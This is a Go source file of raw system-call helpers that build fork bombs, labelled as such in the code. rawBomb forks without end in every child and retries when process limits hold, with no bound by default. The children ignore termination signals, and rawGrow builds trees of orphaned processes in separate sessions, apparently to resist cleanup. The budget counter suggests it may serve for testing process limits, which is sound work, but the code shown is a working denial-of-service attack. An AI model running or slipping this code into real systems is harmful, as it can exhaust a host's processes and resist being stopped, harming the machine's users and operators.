package main

import (
	"sync/atomic"
	"syscall"
	"unsafe"
)

// The functions below run in children made by a bare clone(2), without an
// exec: one thread, a few pages, born in tens of microseconds, and with the
// parent's command line. The Go runtime does not survive such a fork. So they
// allocate nothing, never grow the stack (nosplit) and make raw system calls
// only, and they end in the kernel, never in a return to Go.

const (
	sigDefault = 0
	sigIgnore  = 1
)

// rawFork is fork(2): 0 in the child, the child's PID in the parent.
//
//go:nosplit
func rawFork() (pid uintptr, errno syscall.Errno) { return rawClone(0) }

// rawClone is rawFork with flags of clone(2). With CLONE_VFORK the parent
// sleeps in the kernel until the child ends or executes something.
//
//go:nosplit
func rawClone(flags uintptr) (pid uintptr, errno syscall.Errno) {
	pid, _, errno = syscall.RawSyscall6(syscall.SYS_CLONE, flags|uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
	return pid, errno
}

// rawDisposition sets what a signal does: sigDefault or sigIgnore.
//
//go:nosplit
func rawDisposition(sig, disposition uintptr) {
	action := [4]uintptr{disposition} // handler, flags, restorer, mask
	syscall.RawSyscall6(syscall.SYS_RT_SIGACTION, sig, uintptr(unsafe.Pointer(&action)), 0, 8, 0, 0)
}

// rawDefaults undoes the handlers that the child has from the Go runtime.
//
//go:nosplit
func rawDefaults() {
	for sig := uintptr(1); sig <= 31; sig++ {
		rawDisposition(sig, sigDefault)
	}
}

// rawStubborn ignores what asks a process to end.
//
//go:nosplit
func rawStubborn() {
	rawDisposition(uintptr(syscall.SIGHUP), sigIgnore)
	rawDisposition(uintptr(syscall.SIGINT), sigIgnore)
	rawDisposition(uintptr(syscall.SIGQUIT), sigIgnore)
	rawDisposition(uintptr(syscall.SIGTERM), sigIgnore)
}

//go:nosplit
func rawSleep() {
	for {
		syscall.RawSyscall6(syscall.SYS_PPOLL, 0, 0, 0, 0, 0, 0)
	}
}

// rawPause sleeps for a time.
//
//go:nosplit
func rawPause(nanoseconds int64) {
	limit := [2]int64{0, nanoseconds}
	syscall.RawSyscall6(syscall.SYS_PPOLL, 0, 0, uintptr(unsafe.Pointer(&limit)), 0, 0, 0)
}

//go:nosplit
func rawExit(code uintptr) {
	for {
		syscall.RawSyscall6(syscall.SYS_EXIT_GROUP, code, 0, 0, 0, 0, 0)
	}
}

//go:nosplit
func rawSetsid() { syscall.RawSyscall6(syscall.SYS_SETSID, 0, 0, 0, 0, 0, 0) }

//go:nosplit
func rawWait(pid uintptr) {
	syscall.RawSyscall6(syscall.SYS_WAIT4, pid, 0, 0, 0, 0, 0)
}

// rawDaemon does what a daemon of old does: a new session, the root as its
// directory, no descriptor open.
//
//go:nosplit
func rawDaemon(root *byte) {
	rawSetsid()
	syscall.RawSyscall6(syscall.SYS_CHDIR, uintptr(unsafe.Pointer(root)), 0, 0, 0, 0, 0)
	for fd := uintptr(0); fd < 64; fd++ {
		syscall.RawSyscall6(syscall.SYS_CLOSE, fd, 0, 0, 0, 0, 0)
	}
}

// rawChild forks a child that sleeps with every signal at its default.
//
//go:nosplit
func rawChild() (pid uintptr, errno syscall.Errno) {
	pid, errno = rawFork()
	if errno == 0 && pid == 0 {
		rawDefaults()
		rawSleep()
	}
	return pid, errno
}

// rawGrow forks twice two children, each in a session of its own and orphaned
// at once, which do the same one level lower. born counts each node twice: when
// it is there, and when the process between it and its planter has gone.
//
//go:nosplit
func rawGrow(depth uintptr, born *atomic.Uint32) {
	node := false // this process is one of the tree, not its planter
	for depth > 0 {
		depth--
		branch := false
		for i := 0; i < 2 && !branch; i++ {
			pid, errno := rawFork()
			switch {
			case errno != 0:
				continue
			case pid != 0:
				rawWait(pid)
				born.Add(1) // the one between has gone
				continue
			}
			rawSetsid()
			if pid, _ := rawFork(); pid != 0 {
				rawExit(0)
			}
			rawDefaults()
			rawStubborn()
			rawSetsid()
			born.Add(1)
			node, branch = true, true
		}
		if !branch {
			break
		}
	}
	if node {
		rawSleep()
	}
}

// bomb is a kind of fork bomb.
type bomb struct {
	setsid, churn bool
	clone         uintptr // flags of clone(2)
	budget        uint32  // births at most, 0 for no bound
	born          *atomic.Uint32
	path          *byte // to be executed after each fork, nil for a plain fork
	argv, envp    **byte
}

// rawBomb forks without end; so do the children.
//
//go:nosplit
func rawBomb(b *bomb) {
	for children := 0; ; {
		if n := b.born.Add(1); b.budget != 0 && n > b.budget {
			rawSleep()
		}
		pid, errno := rawClone(b.clone)
		switch {
		case errno != 0: // a limit holds: try again, and again
			b.born.Add(^uint32(0))
			rawPause(100_000)
		case pid == 0:
			rawDefaults()
			rawStubborn()
			children = 0
			if b.setsid {
				rawSetsid()
			}
			if b.path != nil {
				syscall.RawSyscall6(syscall.SYS_EXECVE, uintptr(unsafe.Pointer(b.path)),
					uintptr(unsafe.Pointer(b.argv)), uintptr(unsafe.Pointer(b.envp)), 0, 0, 0)
				rawExit(1)
			}
		default:
			children++
			if b.churn && children == 2 {
				rawPause(1_000_000)
				rawExit(0)
			}
		}
	}
}
